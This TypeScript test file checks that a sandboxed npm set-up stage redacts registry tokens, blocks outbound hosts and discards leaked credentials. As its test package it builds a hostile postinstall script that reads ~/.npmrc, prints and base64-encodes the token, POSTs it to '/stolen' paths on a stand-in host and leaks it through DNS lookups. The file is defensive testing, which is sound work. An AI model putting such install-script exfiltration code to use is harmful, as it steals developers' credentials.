/** Set-up as it is on a real repository: real git, a real sandbox, a registry on loopback, and package scripts that try what they should not. */
import assert from 'node:assert/strict'
import { createSocket } from 'node:dgram'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo, LookupFunction } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { test, type TestContext } from 'node:test'
import { gzipSync } from 'node:zlib'
import { isRefusal } from '../core/refusal.ts'
import type { Rung } from '../core/rung.ts'
import { type Credential, defaultRepositorySettings, defaultSettings } from '../core/setting.ts'
import type { Running, Task } from '../core/task.ts'
import { makeScratch, refreshed, searchPath, type Scratch } from '../git/fixture.ts'
import { openTranscript } from '../host/transcript.ts'
import { realWorld } from '../host/world.ts'
import { makeArea } from '../sandbox/area.ts'
import { createSandbox, find } from '../sandbox/create.ts'
import { layersIn, setUp } from '../stage/setup.ts'
import type { StagePorts, Work } from '../stage/stage.ts'
import { readCredentials, registriesFor } from './registries.ts'

const token = 'npm_T0k3nOfTheOperator'
const here: LookupFunction = (_name, options, done) =>
  options.all ? done(null, [{ address: '127.0.0.1', family: 4 }]) : done(null, '127.0.0.1', 4)

/** One gzipped tar with these files below `package/`. */
function tarball(files: Readonly<Record<string, string>>): Buffer {
  const blocks = Object.entries(files).flatMap(([path, text]) => {
    const header = Buffer.alloc(512)
    const octal = (value: number, length: number) => `${value.toString(8).padStart(length - 1, '0')}\0`
    header.write(`package/${path}`, 0)
    header.write(octal(0o644, 8) + octal(0, 8) + octal(0, 8), 100)
    header.write(octal(Buffer.byteLength(text), 12) + octal(0, 12), 124)
    header.write('        0', 148)
    header.write('ustar\0' + '00', 257)
    header.write(
      octal(
        header.reduce((sum, byte) => sum + byte, 0),
        7,
      ),
      148,
    )
    return [header, Buffer.from(text), Buffer.alloc((512 - (Buffer.byteLength(text) % 512)) % 512)]
  })
  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)]))
}

/** A private registry: answers who shows the token, and remembers what it was asked. */
async function startRegistry(files: Readonly<Record<string, string>>) {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`)
    const isKnown = request.headers.authorization === `Bearer ${token}`
    response.writeHead(isKnown ? 200 : 401).end(isKnown ? tarball(files) : undefined)
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', () => done()))
  return {
    asked,
    host: `registry.test:${(server.address() as AddressInfo).port}`,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      await new Promise<void>((done) => server.close(() => done()))
    },
  }
}

type Asked = {
  setup: string[]
  setupKey?: string[]
  credentials?: Credential[]
  hosts: string[]
  rung?: Rung
  treeish: string
  base: string
  /** The repository's id. */
  id?: string
  /** Where layers are kept; its own folder for each by default. */
  layers?: string
}

/** Sets a tree up as verify does; answers what was made, what the transcript holds, and where the layers are. Null: this machine has no such rung. */
async function setUpOn(context: TestContext, scratch: Scratch, asked: Asked) {
  const world = realWorld()
  const rung = asked.rung ?? 'namespace'
  const sandbox = await createSandbox(world, { lowest: rung, rung, path: searchPath, folder: scratch.place('sandbox') })
  if (isRefusal(sandbox)) return (context.skip(sandbox.why), null)
  const settings = { ...defaultSettings(2), setup: { hosts: asked.hosts, credentials: asked.credentials ?? [] } }
  const env = { REGISTRY_TOKEN: token }
  const credentials = readCredentials(settings, env, scratch.place('config'))
  if (isRefusal(credentials)) throw new Error(credentials.why)
  const folder = await mkdtemp(join(tmpdir(), 'rg-'))
  context.after(() => rm(folder, { recursive: true }))
  const layers = asked.layers ?? scratch.place('layers')
  const ports: StagePorts = {
    world,
    git: scratch.git,
    sandbox,
    settings,
    agent: () => null,
    layers: layersIn(layers),
    pool: { take: async () => null },
    registries: registriesFor({ world, folder, env, settings, credentials, resolve: here }),
  }
  const file = scratch.place('transcript')
  const transcript = await openTranscript(
    file,
    credentials.flatMap(({ secrets }) => secrets),
  )
  await refreshed(scratch)
  const { base } = asked
  const npm = find('npm', searchPath)
  const work: Work = {
    task: {} as Task,
    attempt: {} as Running,
    repo: {
      id: asked.id ?? 'repo',
      name: 'shop',
      stores: scratch.stores,
      base,
      tip: base,
      target: 'landing',
      targetTip: null,
    },
    repository: { ...defaultRepositorySettings(), setup: asked.setup, setupKey: asked.setupKey ?? [] },
    toolchain: [dirname(process.execPath), ...(npm ? [dirname(npm)] : [])],
    registries: [],
    folder: scratch.place('attempt'),
    signal: new AbortController().signal,
    secrets: [],
    gateway: null,
    onAgentEvent: () => {},
    onOutput: (stream, line) => transcript.write(stream, line),
    active: () => {},
    started: async () => {},
    ended: async () => {},
    isOverBudget: () => false,
    isDrained: () => false,
    hurry: new AbortController().signal,
    keep: async () => null,
    kept: null,
    finished: async () => {},
    anchor: async () => null,
    cachedGates: async () => null,
  }
  const area = await makeArea(scratch.place('area'))
  await scratch.git.checkout(scratch.stores, asked.treeish, area.work)
  const said = await setUp(ports, work, asked.treeish, area)
  const done = 'failed' in said ? said : { added: said.added }
  const into = ('area' in said && said.area.below?.files) || area.work // where what was set up can be seen from outside
  await transcript.close()
  const sockets = readdirSync(folder)
  return { done, into, said: readFileSync(file, 'utf8'), layers, sockets }
}

const npmrc = (host: string): Credential[] => [
  { name: 'REGISTRY_TOKEN', as: 'variable', from: { env: 'REGISTRY_TOKEN' }, repositories: null, whenChanged: false },
  { name: '.npmrc', as: 'file', from: { file: host }, repositories: ['shop'], whenChanged: false },
]

/** A postinstall script that prints the credential, posts it, looks elsewhere, and tells it to a name server, piece by piece. */
const curious = (host: string, nameServer: number): string => `
import { lookup, Resolver } from 'node:dns/promises'
import { readFileSync } from 'node:fs'
import { request } from 'node:http'
const proxy = new URL(process.env.HTTP_PROXY)
const ask = (method, path) => new Promise((done) => {
  const headers = proxy.username ? { 'proxy-authorization': 'Basic ' + btoa(proxy.username + ':' + proxy.password) } : {}
  request({ host: proxy.hostname, port: proxy.port, method, path, headers, agent: false }, (answer) => {
    console.log(method, path, answer.statusCode); answer.resume().on('end', done)
  }).end('x')
})
console.log('variable', process.env.REGISTRY_TOKEN)
console.log('file', readFileSync(process.env.HOME + '/.npmrc', 'utf8'))
console.log('base64', btoa(process.env.REGISTRY_TOKEN))
await ask('POST', 'http://${host}/stolen')
await ask('GET', 'http://elsewhere.test/stolen')
const resolver = new Resolver({ timeout: 200, tries: 1 })
resolver.setServers(['127.0.0.1:${nameServer}'])
console.log('asked a name server:', await resolver.resolve4('stolen.elsewhere.test').then(() => 'answered', (error) => error.code))
console.log('looked up:', await lookup('stolen.elsewhere.test').then(() => 'answered', (error) => error.code))
`

/** A name server that only counts what it is asked. */
async function startNameServer(): Promise<AsyncDisposable & { port: number; asked(): number }> {
  let asked = 0
  const server = createSocket('udp4').on('message', () => asked++)
  await new Promise<void>((resolve) => server.bind(0, '127.0.0.1', resolve))
  return {
    port: server.address().port,
    asked: () => asked,
    [Symbol.asyncDispose]: () => new Promise((resolve) => server.close(() => resolve())),
  }
}

for (const rung of ['namespace', 'group'] as const)
  test(`on the rung ${rung} npm ci installs from a private registry; its scripts print, post and leave no token`, async (context) => {
    if (!find('npm', searchPath)) return context.skip('npm is not installed')
    await using scratch = await makeScratch()
    let script = ''
    await using registry = await startRegistry({
      'package.json': JSON.stringify({ name: 'pad', version: '1.0.0', scripts: { postinstall: 'node try.mjs' } }),
      'index.js': 'module.exports = 42\n',
      get 'try.mjs'() {
        return script
      },
    })
    await using names = await startNameServer()
    script = curious(registry.host, names.port)
    const secret = scratch.place('npmrc')
    const settings = `registry=http://${registry.host}/\n//${registry.host}/:_authToken=${token}\nfoo-password=hunter2hunter2\n`
    await writeFile(secret, settings, { mode: 0o600 })
    const root = { name: 'shop', version: '1.0.0', dependencies: { pad: '1.0.0' } }
    const base = await scratch.commit(scratch.stores.source, {
      'package.json': JSON.stringify(root),
      'package-lock.json': JSON.stringify({
        name: 'shop',
        lockfileVersion: 3,
        packages: {
          '': root,
          'node_modules/pad': {
            version: '1.0.0',
            resolved: `http://${registry.host}/pad-1.0.0.tgz`,
            hasInstallScript: true,
          },
        },
      }),
    })
    const made = await setUpOn(context, scratch, {
      setup: ['npm ci --foreground-scripts --no-audit --no-fund --loglevel=error'],
      setupKey: ['package.json', 'package-lock.json'],
      credentials: npmrc(secret),
      hosts: [registry.host],
      rung,
      treeish: base,
      base,
    })
    if (!made) return
    assert.deepEqual(made.done, { added: ['node_modules'] }, made.said)
    assert.equal(readFileSync(join(made.into, 'node_modules/pad/index.js'), 'utf8'), 'module.exports = 42\n')
    assert.deepEqual(registry.asked, ['GET /pad-1.0.0.tgz'])
    assert.match(made.said, /variable \[redacted\]/)
    assert.match(made.said, /_authToken=\[redacted\]/)
    assert.doesNotMatch(made.said, new RegExp(`${token}|hunter2|${btoa(token).slice(0, 12)}`))
    assert.match(made.said, new RegExp(`POST http://${registry.host}/stolen 403`))
    assert.match(made.said, /GET http:\/\/elsewhere\.test\/stolen 403/)
    assert.match(made.said, new RegExp(`# set-up reached ${registry.host}: 1 connections, \\d+ bytes in`))
    assert.match(made.said, /# set-up did not reach elsewhere\.test:80: is not among the registries/)
    assert.match(made.said, /looked up: E[A-Z_]+/)
    assert.equal(names.asked() > 0, rung === 'group', 'only below a network of its own anything is heard')
    assert.deepEqual(made.sockets, [])
  })

const fetching = (host: string, more = ''): string =>
  `node -e "require('http').get({ host: '127.0.0.1', port: new URL(process.env.http_proxy).port, path: 'http://${host}/x' }, (a) => a.resume().on('end', () => { console.log('status', a.statusCode, process.env.REGISTRY_TOKEN); ${more} }))"`

const variable = (more: Partial<Credential> = {}): Credential[] => [{ ...npmrc('')[0]!, ...more }]

test('a set-up that fails says which host it was denied, without the token it printed', async (context) => {
  await using scratch = await makeScratch()
  const base = await scratch.commit(scratch.stores.source, { key: '1' })
  const made = await setUpOn(context, scratch, {
    setup: [fetching('other.test', 'process.exit(3)')],
    setupKey: ['key'],
    credentials: variable(),
    hosts: [],
    treeish: base,
    base,
  })
  if (!made) return
  assert.ok('failed' in made.done)
  const { failed } = made.done
  assert.match(failed, /^set-up command "node .*failed \(exit 3\):\nstatus 403 \[redacted\]\n/s)
  assert.match(failed, /did not reach other\.test:80: .*setup\.hosts can allow/)
  assert.doesNotMatch(failed, new RegExp(token))
})

test('a set-up that leaves a credential behind is kept from everything that follows', async (context) => {
  await using scratch = await makeScratch()
  const base = await scratch.commit(scratch.stores.source, { key: '1' })
  const made = await setUpOn(context, scratch, {
    setup: ['mkdir -p deps/cache && printf "x%s" "$REGISTRY_TOKEN" > deps/cache/login'],
    setupKey: ['key'],
    credentials: variable(),
    hosts: [],
    treeish: base,
    base,
  })
  if (!made) return
  assert.deepEqual(made.done, {
    failed: "set-up left a credential of the operator's in deps/cache/login: nothing of it is kept",
  })
  assert.ok(readdirSync(made.layers).every((key) => !existsSync(join(made.layers, key, 'manifest.json'))))
})

test('what a task wrote is not executed with a credential: the base is where the key is the same, and nothing is given where it changed', async (context) => {
  await using scratch = await makeScratch()
  const { source } = scratch.stores
  const script = (who: string) =>
    `mkdir -p deps && echo "${who} \${REGISTRY_TOKEN:-nothing}" > deps/who && test "$1" != fail\n`
  const base = await scratch.commit(source, { key: '1', 'fetch.sh': script('base') })
  const sameKey = await scratch.commit(source, { 'fetch.sh': script('task') })
  const otherKey = await scratch.commit(source, { key: '2', 'fetch.sh': script('task') })
  const asked = { setup: ['sh fetch.sh'], setupKey: ['key'], hosts: [], base }
  const who = async (treeish: string, credentials: Credential[]) => {
    const made = await setUpOn(context, scratch, { ...asked, treeish, credentials })
    if (made === null) return null
    return 'failed' in made.done ? made.done.failed : readFileSync(join(made.into, 'deps/who'), 'utf8').trim()
  }
  const leak = "set-up left a credential of the operator's in deps/who: nothing of it is kept"
  const found = await who(sameKey, [])
  if (found === null) return
  assert.equal(found, 'base nothing')
  assert.equal(await who(sameKey, variable()), leak) // the base's own script was given it
  assert.equal(await who(otherKey, variable()), 'task nothing')
  assert.equal(await who(otherKey, variable({ whenChanged: true })), leak)
  assert.equal(await who(base, variable({ repositories: ['another'] })), 'base nothing')
  const failed = await setUpOn(context, scratch, {
    ...asked,
    setup: ['sh fetch.sh fail'],
    treeish: otherKey,
    credentials: variable(),
  })
  assert.match((failed!.done as { failed: string }).failed, /not given, because this task changed .*: REGISTRY_TOKEN/)
})

test('what a task wrote makes no dependencies for any tree but its own, nor for what was reviewed later, nor for another repository', async (context) => {
  await using scratch = await makeScratch()
  const { source } = scratch.stores
  const script = (who: string) => `mkdir -p deps && echo ${who} > deps/who\n`
  const base = await scratch.commit(source, { key: '1', 'fetch.sh': script('base') })
  const first = await scratch.commit(source, { key: '2', 'fetch.sh': script('first') })
  const second = await scratch.commit(source, { key: '2', 'fetch.sh': script('second') })
  const layers = scratch.place('layers')
  const who = async (treeish: string, more: { base?: string; id?: string } = {}) => {
    const asked = { setup: ['sh fetch.sh'], setupKey: ['key'], hosts: [], base, treeish, layers, ...more }
    const made = await setUpOn(context, scratch, asked)
    if (made === null) return null
    return 'failed' in made.done ? made.done.failed : readFileSync(join(made.into, 'deps/who'), 'utf8').trim()
  }
  const found = await who(first)
  if (found === null) return
  assert.equal(found, 'first')
  assert.equal(await who(second), 'second')
  assert.equal(await who(first, { base: second }), 'second', 'that commit was reviewed: its layer is made of it')
  assert.equal(await who(base), 'base')
  assert.equal(await who(first, { base: first, id: 'other' }), 'first')
  assert.equal(readdirSync(layers).length, 5)
})
